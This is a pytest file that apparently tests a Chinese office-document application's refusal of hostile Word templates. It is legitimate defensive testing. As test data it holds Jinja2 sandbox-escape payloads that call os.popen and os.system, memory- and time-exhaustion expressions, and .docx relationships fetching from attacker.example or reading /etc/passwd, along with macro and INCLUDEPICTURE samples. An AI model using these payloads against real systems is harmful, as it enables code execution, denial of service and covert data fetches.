"""An office's template is untrusted: it cannot run code, exhaust the server or make Word fetch anything.

Each payload goes through the command line (``templates add``), the store the page uses, and rendering of
a template that reached the database some other way.
"""
from __future__ import annotations

import io
import re
import time
import zipfile

import pytest
from docx import Document

from duban.output import documents
from duban.output.documents import DocumentError, check_template, default_template, render

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def with_text(*texts: str, kind: str = "督办") -> bytes:
    """The shipped template with one more paragraph for each text."""
    document = Document(io.BytesIO(default_template(kind)))
    for text in texts:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def with_member(name: str, content: bytes, kind: str = "督办", replace: dict[str, tuple[str, str]] | None = None
                ) -> bytes:
    """The shipped template with a member added (or a text replaced inside a member)."""
    source = zipfile.ZipFile(io.BytesIO(default_template(kind)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for info in source.infolist():
            data = source.read(info)
            if replace and info.filename in replace:
                old, new = replace[info.filename]
                data = data.replace(old.encode(), new.encode())
            made.writestr(info, data)
        if name:
            made.writestr(name, content)
    return out.getvalue()


def _relationship(kind: str, target: str, external: bool = True) -> dict[str, tuple[str, str]]:
    mode = ' TargetMode="External"' if external else ""
    rel = (f'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
           f'{kind}" Target="{target}"{mode}/></Relationships>')
    return {"word/_rels/document.xml.rels": ("</Relationships>", rel)}


MARKER = "/tmp/duban_template_ran_code"
CODE = [
    "{{ cycler.__init__.__globals__.os.popen('touch " + MARKER + "').read() }}",
    "{{ joiner.__init__.__globals__.os.system('touch " + MARKER + "') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ lipsum.__globals__['os'].popen('touch " + MARKER + "') }}",
]


@pytest.mark.parametrize("payload", CODE)
def test_a_template_cannot_run_code_at_check_or_render(payload):
    import os

    if os.path.exists(MARKER):
        os.remove(MARKER)
    with pytest.raises(DocumentError, match="不允许|出错"):
        check_template("督办", with_text(payload))
    with pytest.raises(DocumentError):  # one stored before this check existed is refused at render time too
        render(with_text(payload), {"items": []})
    assert not os.path.exists(MARKER)


@pytest.mark.parametrize("payload", ["{{ 'A' * 3 * 10**9 }}", "{{ 'A' * 10**10 }}", "{{ [1] * 10**9 }}",
                                     "{{ 2 ** 999999999 }}", "{% for i in range(10**9) %}x{% endfor %}"])
def test_a_template_that_would_exhaust_the_server_is_refused_quickly(payload):
    started = time.monotonic()
    with pytest.raises(DocumentError):
        check_template("督办", with_text(payload))
    assert time.monotonic() - started < documents.CHECK_SECONDS


def test_a_template_that_never_ends_is_stopped_at_the_worker_time_limit(monkeypatch):
    monkeypatch.setattr(documents, "CHECK_SECONDS", 3)
    forever = "{% for i in range(100000) %}{% for j in range(100000) %}{{ i * j }}{% endfor %}{% endfor %}"
    with pytest.raises(DocumentError, match="超时或占用内存过多"):
        check_template("督办", with_text(forever))


def test_a_template_whose_output_would_exceed_the_cap_is_refused():
    with pytest.raises(DocumentError, match="过大"):
        check_template("督办", with_text("{%p for i in range(40) %}", "{{ 'A' * 999999 }}", "{%p endfor %}"))


@pytest.mark.parametrize("member, content, replace, named", [
    ("", b"", _relationship("image", "http://attacker.example/pixel.png"), "外部"),
    ("", b"", _relationship("image", "file:///etc/passwd"), "外部"),
    ("", b"", _relationship("attachedTemplate", "http://attacker.example/t.dotm"), "外部"),
    ("word/evil.docx", b"PK", _relationship("aFChunk", "evil.docx", external=False), "altChunk"),
    ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0", None, "宏"),
    ("", b"", {"word/document.xml": ("</w:body>", '<w:p><w:r><w:instrText>INCLUDEPICTURE "http://x/y.png"'
                                                 "</w:instrText></w:r></w:p></w:body>")}, "INCLUDEPICTURE"),
])
def test_templates_with_external_content_or_macros_are_refused_by_name(member, content, replace, named):
    with pytest.raises(DocumentError, match=named):
        check_template("督办", with_member(member, content, replace=replace))


def test_the_shipped_templates_still_render_in_the_sandbox():
    made = render(default_template("通报"), {"institution": "A&B医院", "summary": ["第一句<>"], "figures": [],
                                           "ranking": [], "newly_overdue": [], "escalated": [], "criticised": [],
                                           "completed": []})
    assert "A&B医院" in "".join(p.text for p in Document(io.BytesIO(made)).paragraphs)


@pytest.mark.parametrize("payload", CODE[:1] + ["{{ 'A' * 3 * 10**9 }}"])
def test_the_command_line_refuses_each_payload_with_one_chinese_line(cli, tmp_path, payload):
    bad = tmp_path / "坏模板.docx"
    bad.write_bytes(with_text(payload))
    done = cli("templates", "add", "督办", bad)
    assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1
    assert re.search("[\u4e00-\u9fff]", done.stderr) and "Traceback" not in done.stderr
    assert "默认模板" in cli("templates", "list").stdout.splitlines()[0]


def test_the_command_line_manages_templates_with_audit_lines(cli, tmp_path):
    from duban.storage import database, templates

    mine = tmp_path / "我们的督办通知单.docx"
    mine.write_bytes(with_text("本院督办办公室 {{ dept }}"))
    assert cli("templates", "add", "督办", mine).returncode == 0
    listed = cli("templates", "list").stdout.splitlines()
    assert listed[0].startswith("督办\t督办通知单\t我们的督办通知单.docx") and "默认模板" in listed[1]
    engine = database.shared_engine()
    assert templates.template_for(engine, "督办") == mine.read_bytes()
    assert cli("templates", "remove", "督办").returncode == 0
    assert templates.template_for(engine, "督办") == default_template("督办")
    details = database.audit_entries(engine)["detail"].tolist()
    assert any("我们的督办通知单.docx" in d for d in details) and any("恢复为默认" in d for d in details)


@pytest.mark.parametrize("path", ["/dev/zero", "/tmp", "/no/such/file.docx"])
def test_the_command_line_reads_only_regular_files(cli, path):
    started = time.monotonic()
    for args in (("templates", "add", "督办", path), ("analyze", path, "--json")):
        done = cli(*args)
        assert done.returncode == 2 and ("不是普通文件" in done.stderr or "无法打开" in done.stderr)
    assert time.monotonic() - started < 10


def test_the_page_refuses_a_template_that_runs_code(open_page, no_failure):
    app = open_page("app_pages/documents.py")
    bad = with_text(CODE[0], kind="催办")
    app.file_uploader(key="template_upload_催办").set_value(("坏模板.docx", bad, DOCX)).run()
    app.button(key="template_use_催办").click().run()
    no_failure(app)
    assert any("不允许" in e.value for e in app.error)
    from duban.storage import database, templates
    assert templates.uploaded(database.shared_engine(), "催办") is None


def test_the_sandbox_bounds_growth_before_computing_it():
    from jinja2.exceptions import SecurityError

    from duban.output.template_worker import TemplateSandbox

    sandbox = TemplateSandbox()
    assert sandbox.from_string("{{ 'ab' * 3 }}{{ 2 ** 10 }}").render() == "ababab1024"
    for growing in ("{{ 'A' * 10**7 }}", "{{ 2 ** 100000 }}", "{{ ('A' * 900000) + ('B' * 900000) }}"):
        with pytest.raises(SecurityError):
            sandbox.from_string(growing).render()


def test_the_structure_check_names_each_problem_and_passes_the_shipped_templates():
    from duban.output.template_worker import structure_problems

    for kind in ("督办", "催办", "通报"):
        assert structure_problems(default_template(kind)) == []
    both = with_member("word/vbaProject.bin", b"x", replace=_relationship("image", "http://x/y.png"))
    assert len(structure_problems(both)) == 2


def test_a_worker_past_its_time_limit_is_stopped():
    from duban.isolation import WorkerFailed, run_worker

    started = time.monotonic()
    with pytest.raises(WorkerFailed):
        run_worker("this.module.does.not.exist", [], b"", seconds=20)  # exits non-zero
    with pytest.raises(WorkerFailed):
        run_worker("http.server", ["0", "--bind", "127.0.0.1"], b"", seconds=1)  # never ends by itself
    assert time.monotonic() - started < 15
